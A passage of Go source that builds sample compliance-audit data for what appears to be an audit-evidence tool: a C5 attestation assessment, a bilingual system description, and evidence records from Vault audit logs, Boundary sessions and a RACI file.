				Review:        &assessment.AttestationReview{Reviewer: "Zoë Łukasiewicz", Date: "2026-09-30", Services: []string{"Housing"}, Regions: []string{"Frankfurt", "Zürich"}, Conclusion: "usable", Notes: "Abschnitt 4 des Berichts"},
				Complementary: []assessment.ComplementaryControl{{ID: "K-1", Text: both("Customers revoke their visitors' access.", "Kunden entziehen den Zutritt ihrer Besucher."), Controls: []assessment.MappedControl{{Control: "privileged-access", Status: assessment.DeviationsNoted}, {Control: "no-such-control"}}, Line: 30}, {ID: "K-2", Text: both("Customers read the monthly report.", ""), Line: 33}},
				Faults:        []assessment.AttestationFault{{Code: "complementary-control-not-supported", Detail: "K-1: privileged-access"}}},
			{ID: "RZ-BRIDGE", Type: "bridge-letter", Framework: "c5-2020", FirstDay: "2026-09-29", LastDay: "2026-12-31", Faults: []assessment.AttestationFault{{Code: "bridge-letter-covers-none"}}, Line: 40},
		},
	}}
}

// Criteria returns the sample as it is for a framework that binds providers and asks for a description of the system, judged for a
// customer and a date: some of the description is not written.
func Criteria() assessment.Assessment {
	a := Sample()
	a.Framework.ID, a.Framework.Binds, a.Organization.Role, a.Type, a.Period, a.Statements = "c5-2020", "provider", "customer", 1, nil, nil
	for i := range a.Requirements {
		a.Requirements[i].SoA, a.Requirements[i].Kind = nil, "basic-criterion"
	}
	answered, unanswered := &a.Requirements[0], &a.Requirements[2]
	answered.Kind, answered.Status, answered.Reasons = "general-condition", assessment.Supported, nil
	answered.Answer = &assessment.ConditionAnswer{
		Text: both("German law; all locations lie in Germany and Switzerland.", "Deutsches Recht; alle Standorte liegen in Deutschland und der Schweiz."), Author: "Jürgen Weiß", Reviewer: "Zoë Łukasiewicz", Date: "2026-09-28",
		Reference: "Systembeschreibung 2.1", Faults: []string{}, File: "system-description.yaml", Line: 40,
	}
	unanswered.Kind, unanswered.Reasons = "general-condition", []assessment.Reason{{Code: "condition-unanswered"}}
	a.Description = &assessment.SystemDescription{
		Version: "2", ApprovedBy: "CISO: Max Mustermann", ApprovedOn: "2026-09-30", File: "system-description.yaml", Line: 1, Faults: []string{"statement-not-supplied"},
		Slots: []assessment.DescribedSlot{
			{ID: "services", Title: both("Services and their types", "Dienste und ihre Arten"), Text: both("A data platform.", "Eine Datenplattform."), Author: "Jürgen Weiß", Date: "2026-09-28", Documents: []string{"DOC-030"}, Line: 5},
			{ID: "boundaries", Title: both("Boundaries of the system", "Grenzen des Systems"), Text: both("", "Endet am Netz des Kunden."), Author: "Jürgen Weiß", Date: "2024-09-28", Faults: []string{"not-in-english", "older-than-a-year"}, Line: 9},
			{ID: "incidents", Title: both("Incidents", "Vorfälle"), Faults: []string{"slot-missing"}},
		},
	}
	return a
}

func (s sampler) records() []assessment.EvidenceItem {
	var out []assessment.EvidenceItem
	for i := range 4 {
		out = append(out, s.record(i, evidence.Record{
			Format: evidence.RecordFormat, Kind: "vault.audit-log/1",
			Source:    evidence.Source{Name: "vault-prod", Type: "vault", System: "/var/log/vault/audit.log", Version: "1.21.1", Identity: "5c1b9ad4-vault-cluster"},
			Period:    &evidence.Period{From: s.period.From.AddDate(0, 0, 23*i), To: s.period.From.AddDate(0, 0, 23*(i+1))},
			Procedure: fmt.Sprintf("Read the file from byte %d to the last complete line; lines as written, nothing filtered.", i*64<<20),
			Content:   []evidence.Part{{Name: fmt.Sprintf("audit.log#%d", i+1), MediaType: "application/x-ndjson", Digest: digestOf(fmt.Sprint("segment", i)), SizeBytes: 64 << 20}},
			Stated:    evidence.Stated{Lines: ptr(int64(51200 + i)), OddLines: ptr(int64(i)), First: ptr(s.period.From.AddDate(0, 0, 23*i)), Last: ptr(s.period.From.AddDate(0, 0, 23*(i+1)).Add(-time.Second)), Notes: []string{}},
		}, "VAL-02", "VAL-09"))
	}
	out = append(out,
		s.record(4, evidence.Record{
			Format: evidence.RecordFormat, Kind: "boundary.sessions/1", Source: evidence.Source{Name: "boundary-prod", Type: "boundary", System: "https://boundary.example.org:9200"},
			At: ptr(s.asOf.Add(-time.Hour)), Procedure: "GET /v1/sessions?scope_id=global&recursive=true&include_terminated=true, every page",
			Content: []evidence.Part{{Name: "sessions/1", MediaType: "application/json", Digest: digestOf("sessions"), SizeBytes: 482113}, {Name: LongPath, MediaType: "application/json", Digest: digestOf("long"), SizeBytes: 12}},
			Stated:  evidence.Stated{ItemsExpected: ptr(int64(4711)), ItemsSeen: ptr(int64(4711)), Notes: []string{"terminated sessions are deleted after about an hour"}}, Redactions: []evidence.Redaction{{Rule: "token", Count: 3, Before: digestOf("before")}},
		}, "BND-01"),
		s.record(5, evidence.Record{
			Format: evidence.RecordFormat, Kind: "responsibility.raci/1", Source: evidence.Source{Name: "responsibility", Type: "responsibility", System: "git checkout"}, At: ptr(s.asOf.Add(-2 * time.Hour)),
			Procedure: "Read raci.yaml at the commit that was checked out, and the commit that last changed it.", Content: []evidence.Part{{Name: "raci.yaml", MediaType: "application/yaml", Digest: digestOf("raci.yaml"), SizeBytes: 2048}, {Name: "responsibility.yaml", MediaType: "application/yaml", Digest: digestOf("responsibility.yaml"), SizeBytes: 4096}},
			DerivedFrom: []evidence.Digest{digestOf("raci raw")},
		}, "RAC-01"))
	return out
}

func (s sampler) record(i int, r evidence.Record, tests ...assessment.TestID) assessment.EvidenceItem {
	r.Collected = evidence.Collected{At: s.asOf.Add(-time.Duration(90-i) * time.Minute), Principal: "svc-auditpack", Host: "audit-01.example.org", Tool: "auditpack 0.1.0", Collector: r.Source.Type + " 1"}
	return assessment.EvidenceItem{Record: digestOf(fmt.Sprint("record", i)), Data: r, Entry: int64(1200 + i), EntryTime: s.asOf.Add(-time.Duration(80-i) * time.Minute), Tests: tests}
}

func (s sampler) sources() []assessment.SourceResult {
	at := s.asOf.Add(-time.Hour)
	return []assessment.SourceResult{
		{Source: "boundary-prod", Type: "boundary", Entry: 1204, Time: at, OK: 3, Parts: []evidence.PartOutcome{{Part: "session recordings", Kind: "boundary.recordings/1", Outcome: evidence.OutcomeNotOffered, Detail: "needs an enterprise licence"}}},
		{Source: "terraform", Type: "terraform", Entry: 1207, Time: at, OK: 41, Parts: []evidence.PartOutcome{
			{Part: "runs of ws-1a2b3c4d", Kind: "terraform.runs/1", Outcome: evidence.OutcomeDenied, Detail: "403: missing permission: read policy checks"},
			{Part: "audit trail", Kind: "terraform.audit-trail/1", Outcome: evidence.OutcomeFailed, Detail: "502 Bad Gateway after 5 tries"},
			{Part: "policy sets", Kind: "terraform.policy-sets/1", Outcome: evidence.OutcomeNone},
		}},
		{Source: "vault-prod", Type: "vault", Entry: 1203, Time: at, OK: 12, Parts: []evidence.PartOutcome{}},
	}
}
